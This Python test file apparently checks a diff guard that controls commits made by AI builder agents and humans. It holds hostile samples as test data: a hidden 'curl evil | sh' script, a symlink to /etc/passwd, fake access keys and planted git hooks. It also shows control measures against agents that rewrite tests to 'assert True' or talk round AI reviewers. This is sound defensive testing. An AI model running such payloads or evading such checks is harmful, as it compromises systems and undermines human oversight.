"""Revisions are commits and every one passes the diff guard first: real repositories, the real bus."""

from __future__ import annotations

from pathlib import Path

import pytest

from org.errors import Denied
from org.identity.guard import Guard
from org.workspaces.service import check_revision, open_workspace, show_workspace
from tests.workspaces.gitrepo import commit_file, sh_git


def _start(bus, title="fix add", **attrs):
    t = bus.add_task(title, "change", by="alice", attributes={"kind": "docs", **attrs}, repo="app")
    w = open_workspace(bus, t["task"], actor="alice")
    g = Guard(bus)
    c, jt = g.claim(bus.tokens["build-claude"], "builder", "build-claude")
    assert c.task == t["task"] and c.gate == "implement"
    return t["task"], Path(w["path"]), c.job, jt, g


def _events(bus, task, type_):
    return [e for e in bus.events_since(0, task=task, limit=10_000) if e["type"] == type_]


def test_uncommitted_changes_become_org_commit_with_trailers(wsbus):
    task, ws, job, jt, g = _start(wsbus)
    (ws / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
    (ws / "docs.md").write_text("new doc\n")
    res = check_revision(wsbus, job, "build-claude")
    msg = sh_git(ws, "log", "-1", "--format=%B")
    assert f"Org-Task: {task}" in msg and "Org-Gate: implement" in msg and "Org-Actor: build-claude" in msg
    assert sh_git(ws, "rev-parse", "HEAD") == res["commit"] and sh_git(ws, "status", "--porcelain") == ""
    assert res["files"] == 2 and res["lines"] == 3 and "+    return b + a" in res["patch"]
    r = g.submit(jt, job, "pass")
    assert r["revision"] == res["commit"]  # the revision IS the commit
    show = show_workspace(wsbus, task)
    assert show["accepted"] == res["commit"]
    ev = _events(wsbus, task, "revision.committed")[-1]
    assert ev["data"]["commit"] == res["commit"] and ev["data"]["files"] == 2
    # the review that follows binds to the commit
    ready = [e for e in _events(wsbus, task, "gate.ready") if e["data"]["gate"] == "correctness"]
    assert ready[-1]["data"]["revision"] == res["commit"]


def test_an_unchecked_revision_never_counts(wsbus):
    """An agent that calls the bus directly, naming any revision or none, is refused (no diff guard ran)."""
    task, ws, job, jt, g = _start(wsbus)
    commit = commit_file(ws, "src/app.py", "print('anything')\n")
    for rev in (None, commit, "0" * 40):
        with pytest.raises(Denied, match="commit org checked") as e:
            g.submit(jt, job, "pass", revision=rev)
        assert e.value.detail["rule"] == "ORG-REVISION-UNCHECKED"
    res = check_revision(wsbus, job, "build-claude", commit=commit)
    with pytest.raises(Denied, match="not the commit org checked"):
        g.submit(jt, job, "pass", revision="f" * 40)
    # the agent's own commit is submitted under org's commit for it (trailers, author: ADR 0230)
    assert g.submit(jt, job, "pass", revision=res["commit"])["revision"] == res["commit"]
    assert sh_git(ws, "rev-parse", f"{res['commit']}^") == commit
    assert "Org-Actor: build-claude" in sh_git(ws, "log", "-1", "--format=%B", res["commit"])


@pytest.mark.parametrize(
    "change, rule",
    [
        (
            lambda ws: (ws / ".github" / "workflows" / "ci.yml").write_text("on: [push, pull_request]\n"),
            "ORG-PROTECTED-PATH",
        ),
        (lambda ws: (ws / "src" / "auth" / "login.py").unlink(), "ORG-PROTECTED-PATH"),
        (
            lambda ws: (ws / "tests" / "test_app.py").write_text("def test_add():\n    assert True\n"),
            "ORG-GOLDEN-FILE",
        ),
        (lambda ws: (ws / "tests" / "test_app.py").unlink(), "ORG-GOLDEN-FILE"),
        (lambda ws: (ws / "tests" / "test_app.py").rename(ws / "tests" / "test_moved.py"), "ORG-GOLDEN-FILE"),
        (lambda ws: (ws / "leak.txt").symlink_to("/etc/passwd"), "ORG-PATH-ESCAPE"),
        (lambda ws: (ws / "src" / "up").symlink_to("../../outside"), "ORG-PATH-ESCAPE"),
        (lambda ws: (ws / "key.py").write_text("K = 'ghp_" + "a1B2" * 9 + "'\n"), "ORG-SECRET-IN-DIFF"),
        (
            lambda ws: (ws / "cfg.py").write_text("AWS = 'AKIA" + "ABCDEFGHIJKLMNOP" + "'\n"),
            "ORG-SECRET-IN-DIFF",
        ),
        (lambda ws: [(ws / f"f{i}.txt").write_text("x\n") for i in range(21)], "ORG-MAX-DIFF"),
        (lambda ws: (ws / "big.txt").write_text("x\n" * 401), "ORG-MAX-DIFF"),
        (
            lambda ws: (
                sh_git(ws, "init", "-q", "vendored"),
                (ws / "vendored" / "a").write_text("a"),
                sh_git(ws / "vendored", "add", "a"),
                sh_git(ws / "vendored", "commit", "-qm", "x"),
            ),
            "ORG-SUBMODULE",
        ),
        (
            lambda ws: (ws / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ../x\n'),
            "ORG-SUBMODULE",
        ),
        # content no reviewer sees: one NUL byte makes a shell script 'Binary files ... differ' (bash runs it)
        (lambda ws: (ws / "build.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n\x00\n"), "ORG-BINARY-FILE"),
        # build output of a test run (byte code) is binary too: it never enters a revision
        (
            lambda ws: (
                (ws / "src" / "__pycache__").mkdir(),
                (ws / "src" / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\xa7\r\r\n\x00\x00"),
            ),
            "ORG-BINARY-FILE",
        ),
    ],
)
def test_the_diff_guard_denies_with_rule_and_source(wsbus, change, rule):
    task, ws, job, jt, g = _start(wsbus)
    change(ws)
    with pytest.raises(Denied) as e:
        check_revision(wsbus, job, "build-claude")
    assert e.value.exit_code == 4 and rule in e.value.detail["rules"]
    f = next(f for f in e.value.detail["findings"] if f["rule"] == rule)
    assert f["source"].startswith(("gates/repos.yaml:", "org/bus/redact.py"))
    denied = _events(wsbus, task, "revision.denied")
    assert denied and rule in denied[-1]["rules"]
    assert show_workspace(wsbus, task)["accepted"] == show_workspace(wsbus, task)["base"]  # nothing accepted
    with pytest.raises(Denied, match="commit org checked"):
        g.submit(jt, job, "pass")


def test_a_secret_never_reaches_the_audit_log(wsbus):
    task, ws, job, jt, g = _start(wsbus)
    token = "ghp_" + "Zq9" * 12
    (ws / "conf.py").write_text(f"TOKEN = '{token}'\n")
    with pytest.raises(Denied):
        check_revision(wsbus, job, "build-claude")
    assert token not in str(wsbus.events_since(0, task=task, limit=10_000))


def test_a_human_is_checked_too(wsbus):
    """Humans included: a golden file is refused to a human as to an agent."""
    task, ws, job, jt, g = _start(wsbus)
    (ws / "tests" / "test_app.py").write_text("")
    with pytest.raises(Denied, match="ORG-GOLDEN-FILE"):
        check_revision(wsbus, job, "alice")


def test_a_binary_file_is_refused_to_a_human_too_unless_the_repository_welcomes_it_there(ws_org, request):
    """ORG-BINARY-FILE binds everyone; `binary:` globs in gates/repos.yaml name where binary files may enter."""
    repos = ws_org / "gates" / "repos.yaml"
    repos.write_text(
        repos.read_text().replace("    merge: merge\n", '    merge: merge\n    binary: ["assets/**"]\n')
    )
    bus = request.getfixturevalue("wsbus")
    task, ws, job, jt, g = _start(bus)
    (ws / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    with pytest.raises(Denied, match="ORG-BINARY-FILE") as e:
        check_revision(bus, job, "alice")
    f = next(f for f in e.value.detail["findings"] if f["rule"] == "ORG-BINARY-FILE")
    assert f["path"] == "logo.png" and f["source"].startswith("gates/repos.yaml:")
    (ws / "assets").mkdir(exist_ok=True)
    (ws / "logo.png").replace(ws / "assets" / "logo.png")
    res = check_revision(bus, job, "build-claude")
    assert res["binary"] == ["assets/logo.png"]


def test_an_agent_reviewer_may_not_pass_a_revision_whose_content_it_was_not_shown(ws_org, request):
    """Server side: an external reviewer (over the CLI or the socket) that passes a diff holding content no
    diff shows (a binary file where the repository welcomes them) is refused; 'changes' goes through."""
    from org.workspaces.service import revision_patch

    repos = ws_org / "gates" / "repos.yaml"
    repos.write_text(
        repos.read_text().replace("    merge: merge\n", '    merge: merge\n    binary: ["assets/**"]\n')
    )
    bus = request.getfixturevalue("wsbus")
    task, ws, job, jt, g = _start(bus)
    (ws / "assets").mkdir()
    (ws / "assets" / "run.sh").write_bytes(b"#!/bin/sh\necho hi\n\x00\n")
    res = check_revision(bus, job, "build-claude")
    g.submit(jt, job, "pass", revision=res["commit"])
    shown = revision_patch(bus, task, res["commit"])
    assert shown["unseen"] == ["assets/run.sh"]
    c, rt = g.claim(bus.tokens["rev-gpt"], "reviewer", "rev-gpt")
    assert c.task == task and c.kind == "review"
    with pytest.raises(Denied, match="assets/run.sh") as e:
        check_revision(bus, c.job, "rev-gpt")
    assert e.value.detail["rule"] == "ORG-UNSEEN-CONTENT"
    assert g.submit(rt, c.job, "changes", note="I cannot read assets/run.sh")["ok"]


def test_named_commit_must_be_on_the_workspace_branch(wsbus, source):
    task, ws, job, jt, g = _start(wsbus)
    other = commit_file(source, "README.md", "elsewhere\n")
    from org.errors import NotFound, UsageError

    with pytest.raises(NotFound, match="not on the workspace's branch"):
        check_revision(wsbus, job, "build-claude", commit=other)
    with pytest.raises(UsageError, match="not a commit id"):
        check_revision(wsbus, job, "build-claude", commit="HEAD~1")


def test_file_names_with_spaces_newlines_and_unicode(wsbus):
    task, ws, job, jt, g = _start(wsbus)
    for name in ("a b.txt", "line\nbreak.txt", "ünï cødé.txt", "tab\there.txt"):
        (ws / name).write_text("x\n")
    res = check_revision(wsbus, job, "build-claude")
    assert sorted(res["paths"]) == sorted(["a b.txt", "line\nbreak.txt", "ünï cødé.txt", "tab\there.txt"])


def test_the_workspace_git_config_runs_nothing(wsbus, tmp_path):
    """A workspace's .git/config is the agent's: hooks and fsmonitor it sets never run when org reads it."""
    task, ws, job, jt, g = _start(wsbus)
    flag = tmp_path / "ran"
    sh_git(ws, "config", "core.fsmonitor", f"touch {flag}; false")
    hooks = ws / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for h in ("post-commit", "pre-commit", "reference-transaction", "post-checkout"):
        (hooks / h).write_text(f"#!/bin/sh\ntouch {flag}\n")
        (hooks / h).chmod(0o755)
    (ws / "docs.md").write_text("doc\n")
    check_revision(wsbus, job, "build-claude")
    show_workspace(wsbus, task)
    assert not flag.exists()


def test_a_deleted_workspace_under_a_live_lease_is_a_clear_error(wsbus):
    import shutil

    from org.errors import Conflict

    task, ws, job, jt, g = _start(wsbus)
    shutil.rmtree(ws)
    with pytest.raises(Conflict, match="workspace of .* is gone"):
        check_revision(wsbus, job, "build-claude")
    w = open_workspace(wsbus, task, actor="alice")
    assert w["created"] and Path(w["path"]).is_dir()


def test_task_view_shows_the_real_diff_of_the_checked_revision(wsbus):
    task, ws, job, jt, g = _start(wsbus)
    assert wsbus.task(task)["revision_evidence"] is None
    (ws / "src" / "app.py").write_text("def add(a, b):\n    return a + b + 0\n")
    res = check_revision(wsbus, job, "build-claude")
    ev = wsbus.task(task)["revision_evidence"]
    assert ev["commit"] == res["commit"] and ev["changes"] == [
        {"path": "src/app.py", "status": "M", "added": 1, "removed": 1}
    ]
    assert "+    return a + b + 0" in ev["patch"] and len(ev["patch_sha256"]) == 64


def test_a_reviewer_is_handed_the_diff_never_the_builders_transcript(wsbus):
    """The handover of a review job of a repository task (`org claim --json`, built-in or external reviewer)
    carries the real diff from git and the tests, never the builder's note or the content it submitted (the
    built-in builder's tool transcript): a grader that reads why is talked round (ADR 0232)."""
    import json

    from org.workspaces import service

    task, ws, job, jt, g = _start(wsbus)
    (ws / "docs.md").write_text("new doc\n")
    check_revision(wsbus, job, "build-claude")
    transcript = "tool calls:\n- write_file ok (allow) TRANSCRIPT-7f3a because the reviewer will agree"
    g.submit(jt, job, "pass", note="NOTE-91c2 I did it this way because", content=transcript)
    c, rjt = g.claim(wsbus.tokens["rev-gemini"], "reviewer", "rev-gemini")
    facts = g.job_facts(rjt, c.job, workspaces=service)
    assert facts["diff"]["from"] == "git" and "+new doc" in facts["diff"]["patch"]
    text = json.dumps(facts)
    assert "TRANSCRIPT-7f3a" not in text and "NOTE-91c2" not in text
